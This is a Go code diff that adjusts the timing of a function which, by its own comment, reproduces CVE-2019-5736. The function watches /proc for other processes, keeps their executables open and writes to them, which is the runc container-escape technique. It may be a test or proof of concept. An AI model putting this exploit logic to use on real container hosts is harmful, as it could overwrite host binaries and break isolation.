@@ -11,7 +11,7 @@ import (
 )
 
 // overwrite waits for programs that are not this one to come by in its process namespace, keeps them open, and tries to
-// write to them, also when they have ended (CVE-2019-5736). It does so for two seconds.
+// write to them, also when they have ended (CVE-2019-5736). It does so until none has come for two seconds.
 func overwrite(out io.Writer) error {
 	own, err := os.Stat("/proc/self/exe")
 	if err != nil {
@@ -20,7 +20,7 @@ func overwrite(out io.Writer) error {
 	var kept []*os.File
 	written := 0
 	seen := make(map[string]bool)
-	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
+	for last := time.Now(); time.Since(last) < 2*time.Second; {
 		entries, err := os.ReadDir("/proc")
 		if err != nil {
 			return err
@@ -39,7 +39,7 @@ func overwrite(out io.Writer) error {
 				continue
 			}
 			seen[entry.Name()] = true
-			kept = append(kept, f)
+			kept, last = append(kept, f), time.Now()
 		}
 		for _, f := range kept {
 			w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY|os.O_APPEND, 0)
